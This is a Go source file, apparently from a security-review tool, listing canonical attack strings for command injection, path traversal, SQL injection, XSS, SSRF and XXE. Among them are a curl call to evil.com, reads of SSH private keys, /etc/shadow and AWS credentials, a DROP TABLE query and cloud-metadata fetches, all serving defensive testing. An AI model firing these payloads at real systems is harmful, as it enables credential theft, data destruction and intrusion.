// Copyright 2026 The Bureau Authors
// SPDX-License-Identifier: Apache-2.0

package payload

import "github.com/vvatta/mcp-automatic-review/lib/schema"

// Template is one canonical adversarial string.
type Template struct {
	Value       string
	Description string
}

var templates = map[schema.AttackType][]Template{
	schema.AttackCommandInjection: {
		{"; ls -la", "command separator"},
		{"| cat /etc/passwd", "pipe into cat"},
		{"&& whoami", "conditional chain"},
		{"`id`", "backtick substitution"},
		{"$(curl http://evil.com)", "command substitution with egress"},
		{"; cat ~/.ssh/id_rsa", "separator reading a private key"},
	},
	schema.AttackPathTraversal: {
		{"../../../../etc/passwd", "relative traversal to passwd"},
		{"..\\..\\..\\windows\\system32\\config\\sam", "backslash traversal"},
		{"/etc/shadow", "absolute sensitive path"},
		{"../../.ssh/id_rsa", "traversal to a private key"},
		{"~/.aws/credentials", "home-relative credentials"},
		{"....//....//....//etc/passwd", "filter-evading traversal"},
		{"%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "percent-encoded traversal"},
	},
	schema.AttackSQLInjection: {
		{"' OR '1'='1", "tautology"},
		{"'; DROP TABLE users--", "stacked destructive query"},
		{"admin'--", "comment truncation"},
		{"1' UNION SELECT * FROM users--", "union select"},
		{"1 OR 1=1", "numeric tautology"},
	},
	schema.AttackXSS: {
		{"<script>alert(1)</script>", "script tag"},
		{"\"><img src=x onerror=alert(1)>", "attribute breakout"},
		{"javascript:alert(document.cookie)", "javascript URL"},
		{"<svg onload=alert(1)>", "svg event handler"},
	},
	schema.AttackSSRF: {
		{"http://169.254.169.254/latest/meta-data/", "cloud metadata endpoint"},
		{"http://127.0.0.1:22/", "loopback service"},
		{"http://localhost:2375/containers/json", "local container API"},
		{"file:///etc/passwd", "file URL"},
		{"gopher://127.0.0.1:6379/_INFO", "gopher to local redis"},
	},
	schema.AttackXXE: {
		{`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, "external entity reading passwd"},
		{`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///home/mcp/.ssh/id_rsa">]><r>&x;</r>`, "external entity reading a private key"},
		{`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&x;</r>`, "external entity fetching metadata"},
	},
}

// Templates returns the canonical strings for an attack type. Control
// has none.
func Templates(attack schema.AttackType) []Template {
	return templates[attack]
}
